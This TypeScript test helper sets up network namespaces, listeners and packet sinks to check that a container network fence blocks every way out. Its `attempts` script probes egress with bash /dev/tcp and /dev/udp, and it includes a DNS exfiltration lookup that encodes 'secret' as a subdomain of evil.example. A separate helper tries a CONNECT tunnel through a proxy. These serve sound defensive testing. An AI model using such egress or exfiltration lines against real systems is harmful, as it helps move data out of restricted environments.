// A host for a container engine, in a namespace of the test: services on its addresses, an outside beyond it, and sinks that see whatever a
// container gets out. Starts no engine: that is each test's.
import { chmodSync, mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeLink, makeNetns, type Netns, type Output, type Running } from '../../helpers/netns.ts';

export const common = ['root', 'netns', 'nft', 'perl', 'ip', 'nsenter', 'bash', 'iptables'];
export const root = join(import.meta.dirname, '../../..');
const main = join(root, 'container/main.ts');
export const world = import.meta.dirname;
export const example = join(root, 'examples/compose');

export interface Tearable {
  teardown(handler: () => void | Promise<void>): void;
}

export interface Machine {
  readonly dir: string;
  readonly host: Netns;
  readonly outside: Netns;
  fence(...words: readonly string[]): Promise<Output>;
  watch(...words: readonly string[]): Running;
  /** Everything of other tables, without counts. */
  othersRules(): Promise<string>;
}

const listener = (port: number): string =>
  `require('net').createServer(s => s.on('error', () => {}).end('hello')).listen(${port}, '::', () => console.log('on'))`;

/** A host with services on every address, and beyond it an outside to which every address belongs. */
export async function makeMachine(t: Tearable): Promise<Machine> {
  // Short: a unix socket in it has at most 107 bytes of path.
  const dir = mkdtempSync(join(tmpdir(), 'spt-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  chmodSync(dir, 0o755);
  const host = await makeNetns(t, 'engine');
  const outside = await makeNetns(t, 'outside');
  await makeLink(
    { ns: host, dev: 'up0', addresses: ['10.98.0.1/24', 'fd00:98::1/64'] },
    { ns: outside, dev: 'up0', addresses: ['10.98.0.2/24', 'fd00:98::2/64'] },
  );
  for (const address of ['192.0.2.7/32', '2001:db8::7/128'])
    await host.must(['ip', 'addr', 'add', address, 'dev', 'lo']);
  await host.must(['ip', 'route', 'add', 'default', 'via', '10.98.0.2']);
  await outside.must(['ip', 'route', 'add', 'local', '0.0.0.0/0', 'dev', 'lo']);
  await outside.must(['ip', 'route', 'add', '10.98.0.0/24', 'dev', 'up0', 'table', 'local']).catch(() => '');
  for (const [ns, port] of [
    [host, 22],
    [outside, 443],
  ] as const)
    await ns.start([process.execPath, '-e', listener(port)]).line((line) => line === 'on');
  const env = { ...process.env, SALLYPORT_STATE_DIR: join(dir, 'state') };
  const argv = (words: readonly string[]) => [process.execPath, main, 'fence', ...words];
  return {
    dir,
    host,
    outside,
    fence: async (...words) => await host.run(argv(words), { env, timeoutMs: 60_000 }),
    watch: (...words) => host.start(argv(words), env),
    othersRules: async () => {
      const text = await host.must(['nft', '-s', 'list', 'ruleset']);
      return text.replaceAll(/^table (inet|bridge) sallyport \{\n[\s\S]*?^\}\n/gm, '');
    },
  };
}

/** Every address that the host has at this moment, as a container would write it: a link-local one is that of its own bridge. */
export async function addressesOf({ host }: Machine): Promise<readonly string[]> {
  const links = JSON.parse(await host.must(['ip', '-j', 'addr', 'show'])) as readonly {
    readonly ifname: string;
    readonly addr_info: readonly { readonly local: string; readonly scope: string }[];
  }[];
  return links.flatMap(({ ifname, addr_info }) =>
    addr_info.flatMap(({ local, scope }) => {
      if (scope === 'global') return [local];
      return scope === 'link' && ifname === 'br-agents' ? [`${local}%eth0`] : [];
    }),
  );
}

/** What reaches the host's own stack, at whatever address, and what leaves it: lines that name one of `members`, and every question to a DNS server. */
export async function sinksOf(
  { host, outside }: Machine,
  members: RegExp,
): Promise<() => Promise<readonly string[]>> {
  const sinks = [
    host.start(['perl', join(world, 'sink.pl'), 'local', '10.98.0.1']),
    outside.start(['perl', join(world, 'sink.pl'), 'wire', 'up0']),
  ];
  for (const sink of sinks) await sink.line((line) => line === 'ready');
  return async () => {
    // Handled in order: when this has arrived, so has whatever came before it.
    await host.must(['perl', join(world, 'send.pl'), '31999', 'udp', '10.98.0.1', '9']);
    await host.must(['perl', join(world, 'send.pl'), '31999', 'udp', '10.98.0.2', '9']);
    for (const sink of sinks) {
      await sink.line((line) => line.endsWith(' 31999'));
      await sink.stop();
    }
    const isLeak = (line: string): boolean => members.test(line) || / 53 \d+$/.test(line);
    return sinks.flatMap(({ lines }) => lines.filter(isLeak));
  };
}

/** Every way out that a container may try with bash alone; the fence answers none of them, so each ends by its own clock. */
export const attempts = (others: readonly string[]): string => `
try() { timeout 1 bash -c "echo x > /dev/$1/$2/$3" 2>/dev/null && echo "open $1 $2 $3"; }
for at in ${others.join(' ')}; do
  try tcp $at 22 & try udp $at 53 & try udp $at 443 & try tcp $at 3128 &
done; wait; timeout 3 getent hosts c2VjcmV0.evil.example; echo done`;

export const connects = (address: string, target: string): string =>
  `exec 3<>/dev/tcp/${address}/3128; printf 'CONNECT ${target} HTTP/1.1\\r\\nHost: ${target}\\r\\n\\r\\n' >&3; head -1 <&3`;

export async function setBridgeNf({ host }: Machine, value: '0' | '1'): Promise<void> {
  await host.must([
    'sh',
    '-c',
    `for f in /proc/sys/net/bridge/bridge-nf-call-*; do echo ${value} > $f; done`,
  ]);
}

/** For `perl -MIO::Socket::IP -e`: says hello on 22 and 3128, in both families; perl, because it starts at once. */
export const perlServer =
  'for my $p (22, 3128) { next if fork; my $l = IO::Socket::IP->new(Listen => 9, LocalHost => "::", LocalPort => $p, V6Only => 0, ReuseAddr => 1) || IO::Socket::IP->new(Listen => 9, LocalPort => $p, ReuseAddr => 1) || die; while (my $c = $l->accept) { print $c "hello"; close $c } } sleep';

/** Packets of a class that the fence of `words` has dropped since it was applied. */
export async function drops(machine: Machine, words: readonly string[], name: string): Promise<number> {
  const { stdout } = await machine.fence('verify', ...words, '--json');
  return Number(new RegExp(`"${name}":(\\d+)`).exec(stdout)?.[1]);
}

/** Waits until the fence of `words` holds for every member that is there: the last answer of verify. */
export async function untilWhole(machine: Machine, words: readonly string[]): Promise<string> {
  for (let i = 0; ; i += 1) {
    const { code, stdout } = await machine.fence('verify', ...words);
    if (code === 0 || i === 50) return stdout;
    await new Promise((resolve) => void setTimeout(resolve, 200));
  }
}

/** Which of `wanted` (address and port) are not open by TCP, after a few rounds: an IPv6 address takes its time. */
export async function missing(
  exec: (script: string) => Promise<string>,
  others: readonly string[],
  wanted: readonly string[],
): Promise<readonly string[]> {
  let left = wanted;
  for (let round = 0; round < 10 && left.length > 0; round += 1) {
    const open = (await exec(attempts(others))).split('\n');
    left = left.filter((one) => !open.includes(`open tcp ${one}`));
  }
  return left;
}
